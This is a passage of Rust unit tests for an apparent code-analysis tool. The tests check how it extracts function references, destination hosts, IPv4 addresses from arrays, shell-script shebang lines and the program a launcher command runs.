    fn functions_handed_over_by_name_are_plain_paths_of_lower_case_names() {
        let named = |args: &[Arg]| function_references(args, true).collect::<Vec<_>>();
        assert_eq!(named(&[Arg::Expr("crate :: calib :: run".into())]), ["run"]);
        assert_eq!(named(&[Arg::Expr("Self::worker".into())]), ["worker"]);
        assert_eq!(named(&[Arg::Expr("init".into())]), ["init"]);
        // A bare name handed to a callee that takes no functions is a variable.
        let variable = [Arg::Expr("region".into())];
        assert!(function_references(&variable, false).next().is_none());
        let path = [Arg::Expr("telemetry::region".into())];
        assert_eq!(
            function_references(&path, false).collect::<Vec<_>>(),
            ["region"]
        );
        for not_one in [
            Arg::Expr("State::Ready".into()),
            Arg::Expr("move || run()".into()),
            Arg::Expr("&config".into()),
            Arg::Expr("config.path".into()),
            Arg::Str("run".into()),
        ] {
            assert!(named(&[not_one]).is_empty());
        }
    }

    #[test]
    fn hosts_of_reported_destinations() {
        assert_eq!(
            host_of("+https://docs.example.org/bot)"),
            "docs.example.org"
        );
        assert_eq!(
            host_of("https://u:p@git.example.net:8443/x"),
            "git.example.net"
        );
        assert_eq!(host_of("192.0.2.7:443"), "192.0.2.7");
        assert_eq!(host_of("relay.example.net"), "relay.example.net");
        assert_eq!(
            host_of("https://relay.example.net/@ht"),
            "relay.example.net"
        );
    }

    #[test]
    fn addresses_from_arrays_of_four_numbers_only() {
        let read = |text: &str| ipv4_from_array(text).map(|a| a.to_string());
        assert_eq!(read("[203, 0, 113, 5]").as_deref(), Some("203.0.113.5"));
        assert_eq!(
            read(" [192u8,0u8,2u8,77u8] ").as_deref(),
            Some("192.0.2.77")
        );
        for not_one in [
            "[1, 2, 3]",
            "[1, 2, 3, 4, 5]",
            "[256, 0, 0, 1]",
            "[a, b, c, d]",
            "vec![1]",
            "",
        ] {
            assert_eq!(read(not_one), None, "{not_one}");
        }
    }

    fn strings(words: &[&str]) -> Vec<Arg> {
        words.iter().map(|w| Arg::Str(w.to_string())).collect()
    }

    #[test]
    fn shell_scripts_are_told_by_their_first_line() {
        for script in [
            "#!/bin/sh\nexec \"$@\"\n",
            "#!/usr/bin/env bash\nset -e\n",
            "#!/usr/bin/env -S bash -e\n",
            "#! /bin/zsh\n",
            "\n    #!/bin/sh\n",
            "#!/usr/bin/env LC_ALL=C sh\n",
        ] {
            assert!(is_shell_script(script), "{script:?}");
        }
        for text in [
            "#!/usr/bin/env python3\nprint(1)\n",
            "#![allow(dead_code)]",
            "echo #!/bin/sh",
            "#!",
        ] {
            assert!(!is_shell_script(text), "{text:?}");
        }
    }

    #[test]
    fn a_launcher_runs_its_first_word_that_is_no_option() {
        let program = |args: &[Arg]| launched_program(args).map(|(at, arg)| (at, arg.text()));
        assert_eq!(
            program(&strings(&["-u", "postgres", "psql"])),
            Some((2, "\"psql\"".into()))
        );
        assert_eq!(
            program(&strings(&["-n", "10", "./helper"])),
            Some((2, "\"./helper\"".into()))
        );
        assert_eq!(
            program(&strings(&["30s", "A=1", "-c", "0,2-3", "tool"])),
            Some((4, "\"tool\"".into()))
        );
        // Computed at run time: the program, whatever literal it is built from.
        assert_eq!(
            program(&[Arg::Expr("dir.join(\"helper\")".into())]),
            Some((0, "dir.join(\"helper\")".into()))
        );
        // An option's value computed at run time is the option's.
        assert_eq!(
            program(&[
                Arg::Str("-u".into()),
                Arg::Expr("user".into()),
                Arg::Str("tool".into())
            ]),
            Some((2, "\"tool\"".into()))
        );
        assert_eq!(
            program(&[Arg::Expr("[\"-n\", \"10\", \"./x\"]".into())]),
            Some((0, "\"./x\"".into()))
        );
        assert_eq!(program(&strings(&["-s", "KILL"])), None);
    }
}
